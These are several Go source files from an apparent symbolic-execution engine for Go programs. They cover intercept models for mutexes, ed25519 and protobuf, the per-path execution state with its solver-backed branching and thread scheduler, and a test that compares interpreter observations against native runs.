	ic["(*sync.RWMutex).RUnlock"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		m := mutexOf(ex, args[0])
		if ex.raceLog != nil {
			ex.raceLog.release(th, m.c)
		}
		return nil
	}

	// context: redirected to the Go-source model in the datalog overlay (vmodelWithTimeout)
	ic["context.WithTimeout"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		m := ex.P.findFunc("github.com/biscuit-auth/biscuit-go/v2/datalog", "vmodelWithTimeout")
		if m == nil {
			panic(abortPath{"context.WithTimeout: no model in overlay"})
		}
		return ex.callSSA(th, caller, m, args, nil)
	}

	// crypto/ed25519 kernels
	ic["crypto/ed25519.newKeyFromSeed"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		priv, seed := args[0].(Slice), args[1].(Slice)
		if seed.len != 32 {
			panic(targetPanic{Iface{T: types.Typ[types.String], V: "ed25519: bad seed length: " + strconv.Itoa(seed.len)}})
		}
		st := ex.bytesTerm(seed)
		for i := 0; i < 32; i++ {
			priv.elems()[priv.off+i] = seed.at(i)
		}
		ex.writeTermBytes(priv, 32, ex.pubOf(st))
		return nil
	}
	ic["crypto/ed25519.sign"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		sig, priv, msg := args[0].(Slice), args[1].(Slice), args[2].(Slice)
		if priv.len != 64 {
			panic(targetPanic{Iface{T: types.Typ[types.String], V: "ed25519: bad private key length: " + strconv.Itoa(priv.len)}})
		}
		seed := Slice{base: priv.base, off: priv.off, len: 32, cap: 32}
		var mt *Term
		if msg.len == 0 {
			mt = ex.ts.Const(0, 8)
		} else {
			mt = ex.bytesTerm(msg)
		}
		ex.writeTermBytes(sig, 0, ex.sigOf(ex.bytesTerm(seed), mt, msg.len))
		return nil
	}
	ic["crypto/ed25519.verify"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		pk, msg, sig := args[0].(Slice), args[1].(Slice), args[2].(Slice)
		if pk.len != 32 {
			panic(targetPanic{Iface{T: types.Typ[types.String], V: "ed25519: bad public key length: " + strconv.Itoa(pk.len)}})
		}
		if sig.len != 64 {
			return false
		}
		return ex.verifyModel(pk, msg, sig)
	}
	ic["(*crypto/rand.reader).Read"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		b := args[1].(Slice)
		for i := 0; i < b.len; i++ {
			// not a replay input: natively the operating system's source delivers whatever it delivers
			b.elems()[b.off+i] = ex.newAux(fmt.Sprintf("rand[%d]", i), 8)
		}
		return Tuple{uint64(b.len), Iface{}}
	}

	registerProtoModel(P)
}

func (ex *Exec) isJunk(s Slice) bool {
	if s.base == nil {
		return false
	}
	_, ok := s.base.obj.tag.(junkTag)
	return ok
}

type junkTag struct{}

func sext64Operands(x, y *Term) (*Term, *Term, bool) {
	return x, y, x.w == 128 && y.w == 128
}

func (P *Program) reflectTypeMarker() types.Type {
	P.mu.Lock()
	defer P.mu.Unlock()
	if P.rtypeMarker == nil {
		P.rtypeMarker = types.NewNamed(types.NewTypeName(0, nil, "reflect.rtypeModel", nil), types.Typ[types.String], nil)
	}
	return P.rtypeMarker
}

func sliceVals(v Value) []Value {
	s, ok := v.(Slice)
	if !ok || s.base == nil {
		return nil
	}
	out := make([]Value, s.len)
	copy(out, s.elems()[s.off:s.off+s.len])
	return out
}

func (ex *Exec) strBinopAdd(a, b Value) Value {
	if isOpaque(a) || isOpaque(b) {
		if r, ok := ex.tmplConcat(a, b); ok {
			return r
		}
		return opaqueStr
	}
	as, aok := a.(string)
	bs, bok := b.(string)
	if aok && bok {
		return as + bs
	}
	return mkStr(append(append([]Value{}, strBytes(a)...), strBytes(b)...))
}

func (ex *Exec) strContains(s, sub Value) Value {
	ss, ok1 := s.(string)
	subs, ok2 := sub.(string)
	if ok1 && ok2 {
		return strings.Contains(ss, subs)
	}
	a, b := strBytes(s), strBytes(sub)
	if len(b) > len(a) {
		return false
	}
	var res Value = false
	for i := 0; i+len(b) <= len(a); i++ {
		res = ex.bOr(res, ex.strEq(mkStr(a[i:i+len(b)]), mkStr(b)))
	}
	return res
}

func wrapIndex(format string) int {
	arg := 0
	for i := 0; i < len(format); i++ {
		if format[i] != '%' {
			continue
		}
		i++
		for i < len(format) && strings.IndexByte("+-# 0123456789.", format[i]) >= 0 {
			i++
		}
		if i >= len(format) {
			break
		}
		if format[i] == '%' {
			continue
		}
		if format[i] == 'w' {
			return arg
		}
		arg++
	}
	return -1
}

// errorsIs mirrors errors.Is over interpreter values.
func (ex *Exec) errorsIs(th *Thread, caller *frame, err, target Iface) Value {
	if err.T == nil || target.T == nil {
		return err.T == nil && target.T == nil
	}
	comparable := types.Comparable(target.T)
	errT := ex.P.errorType()
	for depth := 0; depth < 50; depth++ {
		if comparable && types.Identical(err.T, target.T) {
			eq := ex.equals(err.T, err.V, target.V)
			if ex.branch(eq) {
				return true
			}
		}
		if m := ex.P.lookupMethodByName(err.T, nil, "Is"); m != nil && m.Signature.Params().Len() == 1 {
			if ex.branch(ex.call(th, caller, m, []Value{err.V, target})) {
				return true
			}
		}
		m := ex.P.lookupMethodByName(err.T, nil, "Unwrap")
		if m == nil {
			return false
		}
		res := m.Signature.Results()
		if res.Len() != 1 {
			return false
		}
		if types.Identical(res.At(0).Type(), errT) {
			next := ex.call(th, caller, m, []Value{err.V}).(Iface)
			if next.T == nil {
				return false
			}
			err = next
			continue
		}
		if sl, ok := res.At(0).Type().Underlying().(*types.Slice); ok && types.Identical(sl.Elem(), errT) {
			for _, e := range sliceVals(ex.call(th, caller, m, []Value{err.V})) {
				if ex.branch(ex.errorsIs(th, caller, e.(Iface), target)) {
					return true
				}
			}
		}
		return false
	}
	return false
}

func (P *Program) errorType() types.Type {
	return types.Universe.Lookup("error").Type()
}

var _ = big.NewInt
