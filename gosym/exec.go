package main

// Per-path execution state: decisions, path condition, threads and the deterministic scheduler.

import (
	"fmt"
	"math/big"
	"runtime/debug"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// control-flow panics used inside the engine
type abortPath struct{ reason string }  // path leaves the modelled fragment
type prunePath struct{ reason string }  // assumption infeasible: path silently dropped
type killSignal struct{}                // thread torn down at path end
type targetPanic struct{ v Value }      // Go-level panic in the interpreted program
type crashStop struct{}                 // process-terminating event already recorded

type inputRec struct {
	Name string
	W    int // 0 bool
	T    *Term
	Aux  bool // solver-side variable that the native replay does not consume (e.g. ideal-codec bytes)
}

type AssertFail struct {
	ID      string
	Kind    string // "assert", "panic", "stranded", "race"
	Detail  string
	Model   map[string]string // input name -> hex value
	Inputs  []string          // ordered input names
	Values  []string          // ordered values (hex), for replay
	Path    []int
	Choices []int
	Labels  []string
	Entry   string
	UFChoice bool // found on a path that is not realisable with the real signature function
	Fingerprint string
}

type PathResult struct {
	Decisions   []int
	NewBranches [][]int // alternative prefixes discovered
	Status      string  // "ok", "pruned", "abort", "crash", "stepbound"
	Reason      string
	Steps       int
	Covers      []string
	Asserts     map[string]int // id -> times discharged
	Fails       []*AssertFail
	Inconclusive []string
	Observations []string
	Stranded    []string
	Inputs      []string
	Witness     map[string]string
	DecisionKinds map[string]int
	FnSteps     map[string]int
	WitnessNames []string
	WitnessVals []string
	Choices []int
	GlobalStrings []string
	TimerNondet bool
	UFChoice    bool // the path chose an uninterpreted-function atom to be true: not realisable natively
}

type Exec struct {
	w        *Worker
	P        *Program
	ts       *TermStore
	solver   *Solver
	globals  map[*ssa.Global]*Object
	initDone map[*ssa.Package]bool
	threads  []*Thread
	cur      *Thread
	yieldCh  chan yieldMsg
	pc       []*Term
	prefix   []int
	dpos     int
	taken    []int
	altern   [][]int
	inputs   []inputRec
	nobj     int
	steps    int
	maxSteps int
	res      *PathResult
	model    Model
	modelOK  bool
	timerMode int // 0: never fires early, 1: nondeterministic
	stopped  bool
	crash    *AssertFail
	protoSnaps map[string][]Value // structural key -> byte vars (ideal codec determinism)
	nchan    int
	fnSteps  map[*ssa.Function]int
	raceLog  *raceLog
	forbidPanic string // property id for implicit no-panic assertion ("" = panics at top are just reported)
	bigvals  map[*Object]*Term
	userData map[string]interface{}
	chooseLog []int
	forbidStranded string
	protoExtraCap int
	protoTags map[string]*ProtoTag
	lastPanic string
	lastBoth  bool
	swallowedPanics []string
	symObs []symObs
	pubSeen map[int]bool
	sigSeen map[int]bool
	sigApps []sigApp
	sigInjective bool
	sigNotInjective bool
	params map[string]int
	curInstrWhere string
	labels []string
}

type yieldKind int

const (
	yBlocked yieldKind = iota
	yDone
	yCrash
	yAbort
	yPrune
	yEngine
	yYield
)

type yieldMsg struct {
	th   *Thread
	kind yieldKind
	info string
	pv   Value
}

type wakeMsg struct{ kill bool }

type Thread struct {
	id      int
	ex      *Exec
	wake    chan wakeMsg
	state   int // 0 runnable, 1 blocked, 2 done
	blockedOn string
	isMain  bool
	sel     *selectState
	depth   int
	vc      []int
	name    string
}

func (ex *Exec) newObject(v Value, desc string) *Object {
	ex.nobj++
	return &Object{id: ex.nobj, v: v, desc: desc}
}

// ---------------------------------------------------------------- decisions

// decide returns the decision at the current position: replayed from the prefix, or new.
// alts is the number of alternatives; feas reports feasibility of alternative i (lazily).
func (ex *Exec) decide(kind string, alts int, feas func(i int) bool) int {
	// binary branch decisions are stored as d (only this side was feasible) or d+2 (both sides were)
	binary := kind == "branch"
	if ex.dpos < len(ex.prefix) {
		d := ex.prefix[ex.dpos]
		ex.dpos++
		ex.taken = append(ex.taken, d)
		ex.lastBoth = false
		if binary && d >= 2 {
			ex.lastBoth = true
			d -= 2
		}
		return d
	}
	ex.res.DecisionKinds[kind]++
	first := -1
	var others []int
	for i := 0; i < alts; i++ {
		if !feas(i) {
			continue
		}
		if first < 0 {
			first = i
			continue
		}
		others = append(others, i)
	}
	if first < 0 {
		panic(prunePath{"no feasible alternative at " + kind})
	}
	ex.lastBoth = len(others) > 0
	enc := func(i int) int {
		if binary && ex.lastBoth {
			return i + 2
		}
		return i
	}
	for _, i := range others {
		alt := make([]int, len(ex.taken)+1)
		copy(alt, ex.taken)
		alt[len(ex.taken)] = enc(i)
		ex.altern = append(ex.altern, alt)
	}
	ex.dpos++
	ex.prefix = append(ex.prefix, enc(first))
	ex.taken = append(ex.taken, enc(first))
	return first
}

func (ex *Exec) addPC(t *Term) {
	if t.IsConst() {
		return
	}
	ex.pc = append(ex.pc, t)
	ex.solver.Assert(t)
	// keep model only if it still satisfies
	if ex.modelOK {
		if v, ok := ex.ts.Eval(t, ex.model, map[int]*big.Int{}); !ok || v.Sign() == 0 {
			ex.modelOK = false
		}
	}
}

// feasible asks whether PC ∧ c is satisfiable. Unknown counts as feasible (kept), and is recorded.
func (ex *Exec) feasible(c *Term) bool {
	if c.IsConst() {
		return c.val != 0
	}
	if ex.modelOK {
		if v, ok := ex.ts.Eval(c, ex.model, map[int]*big.Int{}); ok && v.Sign() != 0 {
			return true
		}
	}
	r := ex.solver.CheckWith(c)
	defer ex.solver.EndCheck()
	switch r {
	case Sat:
		return true
	case Unsat:
		return false
	}
	ex.res.Inconclusive = append(ex.res.Inconclusive, "feasibility unknown: kept")
	return true
}

// refreshModel obtains a model of the current path condition.
func (ex *Exec) refreshModel() bool {
	if ex.modelOK {
		return true
	}
	r := ex.solver.CheckWith()
	defer ex.solver.EndCheck()
	if r != Sat {
		return false
	}
	var vars []*Term
	for _, in := range ex.inputs {
		vars = append(vars, in.T)
	}
	m, err := ex.solver.GetModel(vars)
	if err != nil {
		return false
	}
	ex.model = m
	ex.modelOK = true
	return true
}

// branch decides a symbolic boolean.
func (ex *Exec) branch(cv Value) bool {
	switch c := cv.(type) {
	case bool:
		return c
	case *Term:
		if c.IsConst() {
			return c.val != 0
		}
		if ex.dpos >= len(ex.prefix) && !ex.modelOK && !c.hasUF {
			ex.refreshModel()
		}
		d := ex.decide("branch", 2, func(i int) bool {
			if i == 0 {
				return ex.feasible(c)
			}
			return ex.feasible(ex.ts.Not(c))
		})
		if c.hasUF && ex.lastBoth {
			// a free choice about an uninterpreted-function atom: when the atom is chosen TRUE (e.g. arbitrary
			// bytes happen to be a valid signature) the path cannot be realised with the real function
			atom, positive := c, true
			if c.op == TNot {
				atom, positive = c.args[0], false
			}
			_ = atom
			if (d == 0) == positive {
				ex.res.UFChoice = true
			}
		}
		if d == 0 {
			ex.addPC(c)
			return true
		}
		ex.addPC(ex.ts.Not(c))
		return false
	}
	panic(fmt.Sprintf("branch on %T", cv))
}

// choose forks n ways without solver involvement.
func (ex *Exec) choose(kind string, n int) int {
	if n <= 0 {
		panic(prunePath{"choose(0)"})
	}
	return ex.decide(kind, n, func(int) bool { return true })
}

// concretizeIndex turns a symbolic integer (already known to be within [0,n)) into a concrete one by forking.
func (ex *Exec) concretize(t *Term, lo, hi int, kind string) int {
	// candidates lo..hi-1
	for i := lo; i < hi; i++ {
		eq := ex.ts.Eq(t, ex.ts.Const(uint64(i), t.w))
		if i == hi-1 {
			// last candidate: still must be feasible
			if ex.branch(eq) {
				return i
			}
			panic(prunePath{"concretize: no candidate"})
		}
		if ex.branch(eq) {
			return i
		}
	}
	panic(prunePath{"concretize: empty range"})
}

// ---------------------------------------------------------------- threads

func (ex *Exec) newThread(name string, body func(th *Thread)) *Thread {
	th := &Thread{id: len(ex.threads), ex: ex, wake: make(chan wakeMsg), name: name}
	ex.threads = append(ex.threads, th)
	if ex.raceLog != nil {
		ex.raceLog.fork(ex.cur, th)
	}
	go func() {
		msg := <-th.wake
		if msg.kill {
			ex.yieldCh <- yieldMsg{th: th, kind: yDone}
			return
		}
		defer func() {
			r := recover()
			switch r := r.(type) {
			case nil:
				ex.yieldCh <- yieldMsg{th: th, kind: yDone}
			case killSignal:
				ex.yieldCh <- yieldMsg{th: th, kind: yDone}
			case crashStop:
				ex.yieldCh <- yieldMsg{th: th, kind: yCrash, info: "crash"}
			case abortPath:
				ex.yieldCh <- yieldMsg{th: th, kind: yAbort, info: r.reason}
			case prunePath:
				ex.yieldCh <- yieldMsg{th: th, kind: yPrune, info: r.reason}
			case targetPanic:
				ex.yieldCh <- yieldMsg{th: th, kind: yCrash, info: "panic: " + ex.panicString(r.v), pv: r.v}
			default:
				ex.yieldCh <- yieldMsg{th: th, kind: yEngine, info: fmt.Sprintf("%v\n%s", r, debug.Stack())}
			}
		}()
		body(th)
	}()
	return th
}

func (ex *Exec) panicString(v Value) string {
	if i, ok := v.(Iface); ok {
		if s, ok := i.V.(string); ok {
			return s
		}
		if i.T != nil {
			return fmt.Sprintf("(%s) %v", typeString(i.T), i.V)
		}
	}
	return fmt.Sprintf("%v", v)
}

// block parks the current thread until the scheduler wakes it.
func (th *Thread) block(on string) {
	th.state = 1
	th.blockedOn = on
	th.ex.yieldCh <- yieldMsg{th: th, kind: yBlocked}
	msg := <-th.wake
	if msg.kill {
		panic(killSignal{})
	}
}

// yield lets other runnable threads run first (used by the race explorer).
func (th *Thread) yield() {
	th.ex.yieldCh <- yieldMsg{th: th, kind: yYield}
	msg := <-th.wake
	if msg.kill {
		panic(killSignal{})
	}
}

func (ex *Exec) makeRunnable(th *Thread) {
	if th.state == 1 {
		th.state = 0
		th.blockedOn = ""
	}
}

// runThreads is the scheduler loop. Returns when all threads are done/blocked or the path stopped.
func (ex *Exec) runThreads() {
	var cur *Thread
	for !ex.stopped {
		// pick: current if runnable, else lowest-id runnable... FIFO by id after current
		var next *Thread
		if cur != nil && cur.state == 0 {
			next = cur
		} else {
			n := len(ex.threads)
			start := 0
			if cur != nil {
				start = cur.id + 1
			}
			for k := 0; k < n; k++ {
				t := ex.threads[(start+k)%n]
				if t.state == 0 {
					next = t
					break
				}
			}
		}
		if next == nil {
			// nobody runnable: time passes -> a pending timer may fire
			if ex.fireIdleTimer() {
				continue
			}
			return
		}
		cur = next
		ex.cur = cur
		cur.wake <- wakeMsg{}
		msg := <-ex.yieldCh
		switch msg.kind {
		case yBlocked:
		case yYield:
			// round-robin: prefer another runnable thread next
			cur = ex.threads[msg.th.id]
			n := len(ex.threads)
			for k := 1; k <= n; k++ {
				t := ex.threads[(msg.th.id+k)%n]
				if t.state == 0 {
					cur = t
					break
				}
			}
		case yDone:
			msg.th.state = 2
			if ex.raceLog != nil {
				ex.raceLog.threadDone(msg.th)
			}
		case yCrash:
			msg.th.state = 2
			ex.stopped = true
			ex.res.Status = "crash"
			ex.res.Reason = fmt.Sprintf("goroutine %d (%s): %s", msg.th.id, msg.th.name, msg.info)
			ex.recordCrash(msg.th, msg.info)
		case yAbort:
			msg.th.state = 2
			ex.stopped = true
			ex.res.Status = "abort"
			ex.res.Reason = msg.info
		case yPrune:
			msg.th.state = 2
			ex.stopped = true
			ex.res.Status = "pruned"
			ex.res.Reason = msg.info
		case yEngine:
			msg.th.state = 2
			ex.stopped = true
			ex.res.Status = "engine-error"
			ex.res.Reason = msg.info
		}
	}
}

func (ex *Exec) killThreads() {
	for _, th := range ex.threads {
		if th.state != 2 {
			th.wake <- wakeMsg{kill: true}
			<-ex.yieldCh
			th.state = 2
		}
	}
}

// ---------------------------------------------------------------- crash / assertion recording

func (ex *Exec) witness() (map[string]string, []string, []string, bool) {
	ex.modelOK = false
	if !ex.refreshModel() {
		return nil, nil, nil, false
	}
	m := map[string]string{}
	var names, vals []string
	for _, in := range ex.inputs {
		if in.Aux {
			continue
		}
		v := ex.model[in.T.name]
		if v == nil {
			v = big.NewInt(0)
		}
		s := v.Text(16)
		m[in.Name] = s
		names = append(names, in.Name)
		vals = append(vals, s)
	}
	return m, names, vals, true
}

func (ex *Exec) recordCrash(th *Thread, info string) {
	if ex.crash != nil {
		return
	}
	m, names, vals, ok := ex.witness()
	f := &AssertFail{ID: ex.forbidPanic + ".nopanic", Kind: "panic", Detail: fmt.Sprintf("goroutine %d (%s): %s", th.id, th.name, info), Model: m, Inputs: names, Values: vals}
	f.Path = append([]int{}, ex.taken...)
	if !ok {
		f.Detail += " [no model]"
	}
	ex.crash = f
	ex.res.Fails = append(ex.res.Fails, f)
}

func (ex *Exec) checkAssert(c Value, id string, detail string) {
	ex.res.Asserts[id]++
	var t *Term
	switch c := c.(type) {
	case bool:
		t = ex.ts.Bool(c)
	case *Term:
		t = c
	}
	if t.IsConst() && t.val != 0 {
		return
	}
	neg := ex.ts.Not(t)
	r := Sat
	if !neg.IsConst() {
		r = ex.solver.CheckWith(neg)
	} else {
		// constant false assertion: need PC satisfiable
		r = ex.solver.CheckWith()
	}
	switch r {
	case Unsat:
		ex.solver.EndCheck()
		return
	case Unknown:
		ex.solver.EndCheck()
		ex.res.Inconclusive = append(ex.res.Inconclusive, "assert "+id+": solver unknown")
		return
	}
	// sat: extract model
	var vars []*Term
	for _, in := range ex.inputs {
		vars = append(vars, in.T)
	}
	m, err := ex.solver.GetModel(vars)
	ex.solver.EndCheck()
	f := &AssertFail{ID: id, Kind: "assert", Detail: detail, Model: map[string]string{}}
	if err == nil {
		for _, in := range ex.inputs {
			if in.Aux {
				continue
			}
			v := m[in.T.name]
			if v == nil {
				v = big.NewInt(0)
			}
			f.Model[in.Name] = v.Text(16)
			f.Inputs = append(f.Inputs, in.Name)
			f.Values = append(f.Values, v.Text(16))
		}
	} else {
		f.Detail += " [model error: " + err.Error() + "]"
	}
	f.Path = append([]int{}, ex.taken...)
	ex.res.Fails = append(ex.res.Fails, f)
	// continue under the assumption that the assertion holds, if possible
	if ex.feasible(t) {
		ex.addPC(t)
	} else {
		panic(prunePath{"assertion " + id + " always false here"})
	}
}

func (ex *Exec) assume(c Value) {
	switch c := c.(type) {
	case bool:
		if !c {
			panic(prunePath{"assume(false)"})
		}
	case *Term:
		if c.IsConst() {
			if c.val == 0 {
				panic(prunePath{"assume(false)"})
			}
			return
		}
		if !ex.feasible(c) {
			panic(prunePath{"assume infeasible"})
		}
		ex.addPC(c)
	}
}

// newAux creates a solver variable that is not an input of the native replay.
func (ex *Exec) newAux(name string, w int) *Term {
	t := ex.newInput(name, w)
	ex.inputs[len(ex.inputs)-1].Aux = true
	return t
}

func (ex *Exec) newInput(name string, w int) *Term {
	nm := fmt.Sprintf("%s#%d:%d", sanitize(name), len(ex.inputs), w)
	t := ex.ts.Var(nm, w)
	ex.inputs = append(ex.inputs, inputRec{Name: nm, W: w, T: t})
	ex.modelOK = ex.modelOK // unconstrained new var: model (default 0) still fine
	return t
}

func sortedKeys(m map[string]int) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

func joinInts(xs []int) string {
	var sb strings.Builder
	for i, x := range xs {
		if i > 0 {
			sb.WriteByte(',')
		}
		fmt.Fprintf(&sb, "%d", x)
	}
	return sb.String()
}
