package main

import (
	"fmt"
	"go/types"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gosym/corpus"
)

// TestInterpreterAgainstNative runs the corpus natively and through the symbolic interpreter (on
// concrete data: one path) and compares every recorded observation.
func TestInterpreterAgainstNative(t *testing.T) {
	corpus.Out = nil
	corpus.All()
	want := append([]string{}, corpus.Out...)

	wd, _ := os.Getwd()
	P, err := LoadProgram(wd, nil, []string{"./corpus"})
	if err != nil {
		t.Fatal(err)
	}
	P.debugAbort = true
	fn := P.findFunc("gosym/corpus", "All")
	if fn == nil {
		t.Fatal("corpus.All not found")
	}
	P.initOK["gosym/corpus"] = true
	res := P.Explore(RunConfig{Entry: fn, Workers: 1, Solver: "z3-new", TimeoutMs: 5000, MaxSteps: 5000000, MaxPaths: 10, ReadGlobal: "Out"})
	if res.Paths != 1 || res.ByStatus["ok"] != 1 {
		t.Fatalf("expected exactly one completed path, got %v %v %v %v", res.Paths, res.ByStatus, res.AbortReasons, res.EngineErrors)
	}
	got := res.GlobalStrings
	if len(got) != len(want) {
		t.Errorf("observation count: interpreter %d, native %d", len(got), len(want))
	}
	for i := range want {
		if i >= len(got) {
			break
		}
		g, w := got[i], want[i]
		// panic texts of the interpreter's runtime errors are abbreviated: compare up to the message class
		if strings.HasPrefix(w, "panic") && strings.Contains(w, "recovered:") {
			if !samePanicClass(g, w) {
				t.Errorf("obs %d: interpreter %q, native %q", i, g, w)
			}
			continue
		}
		if g != w {
			t.Errorf("obs %d: interpreter %q, native %q", i, g, w)
		}
	}
	_ = filepath.Join
	_ = types.Typ
}

func samePanicClass(g, w string) bool {
	for _, k := range []string{"index out of range", "nil map", "nil pointer", "interface conversion", "unhashable", "divide by zero", "boom", "slice bounds", "no panic"} {
		if strings.Contains(w, k) {
			return strings.Contains(g, k)
		}
	}
	return g == w
}

func TestTermSimplification(t *testing.T) {
	ts := NewTermStore()
	x := ts.Var("x", 64)
	y := ts.Var("y", 64)
	// extract/concat reassembly
	parts := []*Term{}
	for i := 0; i < 8; i++ {
		hi := 63 - 8*i
		parts = append(parts, ts.Extract(x, hi, hi-7))
	}
	if ts.Concat(parts...) != x {
		t.Error("concat of extracts does not reassemble")
	}
	// low bits of a 128-bit sum of sign extensions equal the 64-bit sum
	s128 := ts.Bin(TAdd, ts.Sext(x, 64), ts.Sext(y, 64))
	if ts.Extract(s128, 63, 0) != ts.Bin(TAdd, x, y) {
		t.Error("low bits of wide sum not simplified")
	}
	if ts.Eq(x, x) != ts.True || ts.Ite(ts.True, x, y) != x {
		t.Error("basic identities")
	}
	m := Model{"x": bigInt(7), "y": bigInt(5)}
	v, ok := ts.Eval(ts.Bin(TMul, x, y), m, map[int]*bigIntT{})
	if !ok || v.Int64() != 35 {
		t.Error("eval")
	}
	_ = fmt.Sprint
}
