package main

// Ideal lossless protobuf codec: Marshal snapshots the message and returns tagged symbolic bytes,
// Unmarshal of tagged bytes restores a deep copy. Required fields are checked from the struct tags.

import (
	"fmt"
	"go/types"
	"reflect"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type ProtoTag struct {
	T    types.Type // message pointer type
	Snap Value      // deep snapshot (StructV of the message)
	Len  int
	key  string
}

const protoLen = 4

func registerProtoModel(P *Program) {
	ic := P.intercepts
	ic["google.golang.org/protobuf/proto.Marshal"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		return protoMarshal(ex, th, caller, fn, args[0].(Iface), false)
	}
	// MarshalOptions{AllowPartial: true}.Marshal: what a party that writes bytes by hand can produce
	ic["(google.golang.org/protobuf/proto.MarshalOptions).Marshal"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		return protoMarshal(ex, th, caller, fn, args[1].(Iface), protoAllowPartial(fn, args[0]))
	}
	ic["google.golang.org/protobuf/proto.Unmarshal"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		return protoUnmarshal(ex, th, caller, args[0].(Slice), args[1].(Iface), false)
	}
	ic["(google.golang.org/protobuf/proto.UnmarshalOptions).Unmarshal"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		return protoUnmarshal(ex, th, caller, args[1].(Slice), args[2].(Iface), protoAllowPartial(fn, args[0]))
	}
}

// protoAllowPartial reads the AllowPartial field of a MarshalOptions / UnmarshalOptions receiver.
func protoAllowPartial(fn *ssa.Function, recv Value) bool {
	st := fn.Signature.Recv().Type().Underlying().(*types.Struct)
	sv := recv.(StructV)
	for i := 0; i < st.NumFields(); i++ {
		if st.Field(i).Name() == "AllowPartial" {
			b, ok := sv.f[i].(bool)
			if !ok {
				panic(abortPath{"symbolic AllowPartial"})
			}
			return b
		}
	}
	return false
}

func protoMarshal(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, m Iface, partial bool) Value {
	{
		bt := fn.Signature.Results().At(0).Type()
		if m.T == nil {
			return Tuple{zero(bt), Iface{}}
		}
		p := m.V.(*Pointer)
		if p == nil {
			return Tuple{zero(bt), Iface{}}
		}
		st := m.T.(*types.Pointer).Elem()
		if missing := ex.protoMissingRequired(st, p.raw(), false); missing != "" && !partial {
			e := ex.call(th, caller, ex.P.findFunc("errors", "New"), []Value{"proto: required field " + missing + " not set"})
			return Tuple{zero(bt), e}
		}
		var kb strings.Builder
		snap := ex.protoCopy(st, p.raw(), &kb, false)
		key := typeString(st) + "|" + kb.String()
		vars, ok := ex.protoSnaps[key]
		if !ok {
			for i := 0; i < protoLen; i++ {
				vars = append(vars, ex.newAux(fmt.Sprintf("enc%d[%d]", len(ex.protoSnaps), i), 8))
			}
			ex.protoSnaps[key] = vars
		}
		et := bt.Underlying().(*types.Slice).Elem()
		// proto.Marshal returns a buffer of exactly the encoded size (observed natively: cap == len);
		// buffers produced by the decoder, in contrast, come from append and have spare capacity
		s := ex.makeSlice(et, protoLen, protoLen)
		copy(s.elems(), vars)
		tag := &ProtoTag{T: m.T, Snap: snap, Len: protoLen, key: key}
		s.base.obj.tag = tag
		if !ok {
			// the codec is injective: encodings of two messages of one type coincide iff the messages do
			mine := ex.encTerm(vars)
			for okey, otag := range ex.protoTags {
				if okey == key || !types.Identical(otag.T, m.T) {
					continue
				}
				same := ex.protoContentEq(st, snap, otag.Snap)
				ex.addAxiom(ex.ts.Eq(ex.ts.Eq(mine, ex.encTerm(ex.protoSnaps[okey])), ex.boolTerm(same)))
			}
		}
		ex.protoTags[key] = tag
		return Tuple{s, Iface{}}
	}
}

func protoUnmarshal(ex *Exec, th *Thread, caller *frame, b Slice, m Iface, partial bool) Value {
	{
		mkerr := func(msg string) Value {
			return ex.call(th, caller, ex.P.findFunc("errors", "New"), []Value{msg})
		}
		if m.T == nil {
			return mkerr("proto: nil message")
		}
		var tag *ProtoTag
		if b.base != nil {
			tag = ex.findProtoTag(b)
		}
		if tag == nil {
			return mkerr("proto: cannot parse invalid wire-format data (untagged bytes in the ideal codec)")
		}
		if !types.Identical(tag.T, m.T) {
			return mkerr("proto: message type mismatch (ideal codec)")
		}
		p := m.V.(*Pointer)
		st := m.T.(*types.Pointer).Elem()
		// the decoder's own required-field check (protobuf-go 1.34 fast path): complete, except that the
		// status of a message held by a oneof member other than the oneof's first field is not propagated
		// (observed natively: Op{unary:{}} and Op{Binary:{}} without their required kind are accepted)
		if !partial {
			if missing := ex.protoMissingRequired(st, tag.Snap, true); missing != "" {
				return mkerr("proto: required field " + missing + " not set")
			}
		}
		p.store(ex.protoCopy(st, tag.Snap, nil, true))
		return Iface{}
	}
}

// protoOneofFirst: is wrapper type wt (e.g. *pb.Op_Unary) the first member of its oneof? Decided from the
// field numbers in the struct tags of all wrapper types implementing the same oneof interface.
func (ex *Exec) protoOneofFirst(itf types.Type, wt types.Type) bool {
	num := func(t types.Type) int {
		st, ok := t.Underlying().(*types.Struct)
		if !ok || st.NumFields() != 1 {
			return -1
		}
		parts := strings.Split(reflect.StructTag(st.Tag(0)).Get("protobuf"), ",")
		if len(parts) < 2 {
			return -1
		}
		n := 0
		fmt.Sscanf(parts[1], "%d", &n)
		return n
	}
	mine := num(wt.(*types.Pointer).Elem())
	iface, ok := itf.Underlying().(*types.Interface)
	named, isNamed := wt.(*types.Pointer).Elem().(*types.Named)
	if !ok || !isNamed || named.Obj().Pkg() == nil {
		return true
	}
	scope := named.Obj().Pkg().Scope()
	for _, nm := range scope.Names() {
		tn, ok := scope.Lookup(nm).(*types.TypeName)
		if !ok {
			continue
		}
		pt := types.NewPointer(tn.Type())
		if !types.Implements(pt, iface) {
			continue
		}
		if n := num(tn.Type()); n >= 0 && n < mine {
			return false
		}
	}
	return true
}

// findProtoTag recognises a byte slice as the encoding produced by Marshal: either the tagged buffer
// itself or a copy whose bytes are exactly the encoding's byte variables.
func (ex *Exec) findProtoTag(b Slice) *ProtoTag {
	if t, ok := b.base.obj.tag.(*ProtoTag); ok && b.off == 0 && b.len == t.Len {
		// content must still be the original bytes
		vars := ex.protoSnaps[t.key]
		same := true
		for i := 0; i < b.len; i++ {
			if b.at(i) != vars[i] {
				same = false
				break
			}
